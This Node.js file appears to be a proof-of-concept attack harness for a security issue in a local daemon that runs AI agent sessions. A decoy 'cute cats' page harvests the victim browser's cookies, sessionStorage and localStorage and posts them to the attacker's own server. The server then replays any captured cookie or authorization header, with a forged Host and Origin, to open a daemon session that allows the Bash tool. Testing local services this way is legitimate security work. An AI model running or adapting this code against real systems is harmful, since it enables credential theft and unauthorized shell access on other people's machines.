// Attack 1 of issue 12, run as another local user (uid 65534): a web page on another 127.0.0.1 port.
// It records every request a victim's browser makes to it, lets its page try the daemon from the
// browser, then replays whatever credential it saw against the daemon. Node builtins only.
import { createServer, request } from "node:http";

const daemonPort = Number(process.argv[2]);
const seen = [];
let report;

function toDaemon(method, path, headers, body) {
  return new Promise((resolve) => {
    const call = request({ host: "127.0.0.1", port: daemonPort, method, path, headers }, (response) => {
      response.resume();
      resolve(response.statusCode);
    });
    call.on("error", (error) => resolve(`error: ${error.code}`));
    call.end(body);
  });
}

async function replay() {
  const forged = { host: `127.0.0.1:${daemonPort}`, origin: `http://127.0.0.1:${daemonPort}` };
  const credentials = [{}];
  for (const { headers } of seen) {
    if (headers.cookie) credentials.push({ cookie: headers.cookie });
    if (headers.authorization) credentials.push({ authorization: headers.authorization });
  }
  const results = [];
  for (const credential of credentials) {
    const headers = { ...forged, ...credential };
    results.push({
      credential: Object.keys(credential),
      overview: await toDaemon("GET", "/v1/overview", headers),
      create: await toDaemon(
        "POST",
        "/v1/sessions",
        { ...headers, "content-type": "application/json" },
        JSON.stringify({ backend: "claude", allowedTools: ["Bash"] }),
      ),
    });
  }
  return results;
}

const page = `<!doctype html><html><head><meta charset="utf-8"><title>cute cats</title></head><body><h1>cute cats</h1>
<script>
(async () => {
  const daemon = "http://127.0.0.1:${daemonPort}";
  const tryIt = async (init, path) => {
    try { const r = await fetch(daemon + path, init); return "status " + r.status; } catch (e) { return "error " + e.name; }
  };
  const found = {
    cookie: document.cookie,
    session: JSON.stringify({ ...sessionStorage }),
    local: JSON.stringify({ ...localStorage }),
    overview: await tryIt({ credentials: "include" }, "/v1/overview"),
    create: await tryIt({ method: "POST", credentials: "include", headers: { "content-type": "text/plain" },
      body: JSON.stringify({ backend: "claude" }) }, "/v1/sessions"),
  };
  await fetch("/report", { method: "POST", body: JSON.stringify(found) });
  document.title = "reported";
})();
</script></body></html>`;

const server = createServer((req, res) => {
  seen.push({ method: req.method, url: req.url, headers: req.headers });
  if (req.url === "/report" && req.method === "POST") {
    let body = "";
    req.on("data", (chunk) => {
      body += chunk;
    });
    req.on("end", async () => {
      report = JSON.parse(body);
      res.end("ok");
      const replays = await replay();
      process.stdout.write(
        `${JSON.stringify({ done: true, seen, report, replays, uid: process.getuid() })}\n`,
      );
    });
    return;
  }
  res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
  res.end(page);
});
server.listen(0, "127.0.0.1", () => {
  process.stdout.write(`${JSON.stringify({ port: server.address().port })}\n`);
});
